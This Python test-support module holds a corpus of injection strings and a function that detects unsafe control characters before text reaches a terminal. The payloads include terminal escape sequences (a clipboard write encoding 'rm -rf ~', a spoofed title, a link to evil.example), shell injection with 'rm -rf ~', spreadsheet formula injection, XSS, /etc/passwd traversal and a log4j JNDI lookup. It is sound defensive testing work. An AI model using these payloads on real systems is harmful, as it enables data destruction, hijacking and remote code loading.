"""Texts that a target, a file or a name may hold to do harm, and the bytes of which none may reach a terminal.

Knows nothing of the program: what a terminal may be told is whatever a program of this kind tells it by itself.
"""

from __future__ import annotations

import re

ESC, ST, BEL = "\x1b", "\x1b\\", "\x07"

CORPUS: dict[str, str] = {
    # Commands to the terminal.
    "clears": f"{ESC}[2J{ESC}[3J{ESC}[H",
    "moves": f"{ESC}[999;999H{ESC}[77A{ESC}[5;5f",
    "colours": f"{ESC}[31;5;7;77mred",
    "hides": f"{ESC}[8mhidden{ESC}[28m",
    "scrolls": f"{ESC}[3;9r{ESC}[5S",
    "alt-screen": f"{ESC}[?1049l{ESC}[?47l",
    "mouse-off": f"{ESC}[?1000;1003;2004l{ESC}[?9l",
    "resets": f"{ESC}c{ESC}[!p",
    "charset": f"{ESC}(0lqqk{ESC}(B",
    "keypad": f"{ESC}={ESC}>{ESC}7{ESC}8",
    "bell": f"{BEL * 20}",
    "backspaces": "paid 1\b\b\b\b\b\b0000",
    "unfinished-csi": f"{ESC}[38;2;1;",
    "lone-escape": f"end{ESC}",
    "two-escapes": f"{ESC}{ESC}[1;31m",
    # Texts that a terminal takes as its own.
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "title": f"{ESC}]2;pwned{ST}{ESC}]0;pwned{BEL}",
    "link": f"{ESC}]8;;http://evil.example/{ST}here{ESC}]8;;{ST}",
    "palette": f"{ESC}]4;1;rgb:00/00/00{ST}{ESC}]11;#000000{ST}",
    "notice": f"{ESC}]9;you won{BEL}{ESC}]777;notify;a;b{BEL}",
    "file": f"{ESC}]1337;File=name=eA==;inline=1:AAAA{BEL}",
    "unfinished-osc": f"{ESC}]0;everything that follows is a title",
    "dcs": f"{ESC}P1000p{ESC}tmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}",
    "unfinished-dcs": f"{ESC}Pq#0;2;0;0;0",
    "apc": f"{ESC}_Gf=24,s=1,v=1;AAAA{ST}",
    "unfinished-apc": f"{ESC}_swallows the rest",
    "pm-sos": f"{ESC}^private{ST}{ESC}Xstring{ST}",
    # Questions, whose answers come as if they had been typed.
    "asks-device": f"{ESC}[c{ESC}[>c{ESC}[=c{ESC}[>q",
    "asks-place": f"{ESC}[6n{ESC}[?6n{ESC}[5n",
    "asks-size": f"{ESC}[18t{ESC}[21t{ESC}[14t",
    "asks-colour": f"{ESC}]11;?{BEL}{ESC}]10;?{ST}{ESC}]52;c;?{BEL}",
    "asks-mode": f"{ESC}[?2026$p{ESC}P$qm{ST}{ESC}P+q544e{ST}",
    "answerback": "\x05\x05",
    # Controls of eight bits, and of none.
    "c1-csi": "\x9b2J\x9b31m",
    "c1-osc": "\x9d2;pwned\x9c\x9d52;c;eA==\x9c",
    "c1-dcs": "\x90q\x9c\x9fG\x9c\x98s\x9c",
    "nel": "one\x85two\x8dthree",
    "nul": "a\x00b\x00",
    "del": "ab\x7f\x7fc",
    "shifts": "\x0eabc\x0f",
    "flow": "\x11\x13\x14\x1a\x03\x04",
    "all-c0": "".join(map(chr, range(0x20))),
    "all-c1": "".join(map(chr, range(0x80, 0xA0))),
    "lines": "one\r\ntwo\nthree\rfour",
    "feeds": "a\x0bb\x0cc\x1cd\x1ee",
    "separators": "a\u2028b\u2029c",
    "tabs": "\ta\t\tb\t",
    "return": "0 failed\r999",
    # What cannot be seen.
    "backwards": "\u202egpj.exe\u202c \u2066x\u2069 \u200fy\u061c",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00ad",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "ignore") + "\U000e0001",
    "selectors": "a\ufe0fb\ufe0e\U000e0100c\u180b",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800\u17b4",
    "private": "\ue000\uf8ff\U000f0000\U0010fffd",
    "no-characters": "\ufffe\uffff\U0001ffff\ufdd0",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "surrogates": "\ud800\udc80 \udfff",
    "not-utf8": b"\xff\xfe\x80\xc3\x28\xed\xa0\x80 x".decode("utf-8", "surrogateescape"),
    # What takes another room than it seems to.
    "wide": "漢字テスト \uff21\uff22 한국어",
    "joined": "👩‍👩‍👧‍👦 👨🏽‍🚀 🏳️‍🌈",
    "flags": "🇨🇭🇩🇪🇯",
    "combining": "Z̷̡̢͎̳͎̦̖̬̏̑͐ͅa̴̛͇ĺ̵g̶o",
    "flood": "a" + "\u0301" * 5000,
    "lone-marks": "\u0301\u0327 \u20dd",
    "conjoining": "\u1112\u1161\u11ab \u0e19\u0e49\u0e33",
    "right-to-left": "עברית العربية",
    # What a screen could read as its own markup.
    "action": "[@click=app.quit]press me[/]",
    "action-of-a-screen": "[@click=screen.dismiss(True)]press me[/]",
    "action-unknown": "[@click=nowhere.x('a[0]')]press me[/]",
    "closes": "[/][/][/nope]",
    "unclosed": "[/ [bold [a='b]",
    "styles": "[bold red on green]loud[/bold red on green][reverse]",
    "variables": "[$primary]x[/] [$error 50%]",
    "link-markup": "[link=http://evil.example]y[/link]",
    "nested": "[[b]x[/b]] [[[@click=app.bell]]] \\[b] \\\\[i]",
    "emoji-code": ":smile: :warning:",
    "json": '{"error": [true, false, ["x", null]], "[b]": {"a": [1]}}',
    "ansi-code": "\\x1b[31m \\033[0m ^[[2J",
    # What other programs would take as theirs.
    "formula": "=cmd|'/c calc'!A1",
    "formulas": "+1+1\t@SUM(A1)\t-2",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt; ]]> <!-- --> %3Cscript%3E",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ && !! %n%n%s {0.__class__}",
    "path": "../../../../etc/passwd\x00.trees",
    "log4j": "${jndi:ldap://evil.example/a}",
    # Too much.
    "long": "x" * 1_000_000,
    "long-wide": "漢" * 300_000,
    "long-escape": f"{ESC}]2;" + "y" * 500_000,
    "many-lines": "line\n" * 100_000,
    "many-brackets": "[" * 50_000,
    "empty": "",
    "spaces": "   ",
}
"""By what they try."""

CLICKED = ("action", "action-of-a-screen", "action-unknown", "link-markup", "closes")
"""Those that may make a place to be clicked."""

_TOGETHER = 10

_others = [name for name in CORPUS if name not in (*CLICKED, "spaces")]
BATCHES = [("spaces",), CLICKED, *(tuple(_others[n : n + _TOGETHER]) for n in range(0, len(_others), _TOGETHER))]
"""Names of texts that are shown together, each in another place; of the first there is nothing to see."""

PROBE = f"{ESC}[2J\x9b31m\x07\u202e\u200b\ue000 \ud800!\ufe0f"
"""Some of everything, short: what a door lets through that is none."""

_OWN = re.compile(
    r"\x1b\[(?:(?:0|1|2|3|4|7|9|22|23|24|27|29|39|49|3[0-7]|4[0-7]|9[0-7]|10[0-7]|[34]8;5;\d{1,3}|[34]8;2;\d{1,3};\d{1,3};\d{1,3})"
    r"(?:;(?=\d)|(?=m)))*m"
    r"|\x1b\[\d{1,2};\d{1,3}H"
    r"|\x1b\[\?(?:25|1000|1002|1003|1004|1006|1015|1049|2004|2026|7)[hl]"
    r"|\x1b\[\?2026\$p"
    r"|\x1b\[[<>]\d*u|\x1b\[\?u"
    r"|\x1b\[\?12[hl]"
    r"|\x1b\]22;[a-z-]{1,12}\x07"
)
"""What a screen may tell a terminal by itself: styles, places within it, its modes, the pointer."""

_HARMFUL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e"
    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\ud800-\udfff\ue000-\uf8ff\ufdd0-\ufdef\ufffe\uffff\U000e0000-\U0010ffff]"
)

_COMBINED = re.compile(r"[^\W\d_](?:[\u0300-\u036f\u20d0-\u20ff]){3,}")


def harm(text: str | bytes, is_screen: bool = False) -> list[str]:
    """What of a text a terminal must not be told, each piece once; a screen has commands of its own."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "surrogateescape")
    if is_screen:
        text = _OWN.sub("", text).replace("\r\n", "\n")
    found = dict.fromkeys(match[0] for pattern in (_HARMFUL, _COMBINED) for match in pattern.finditer(text))
    return [repr(piece) for piece in found]
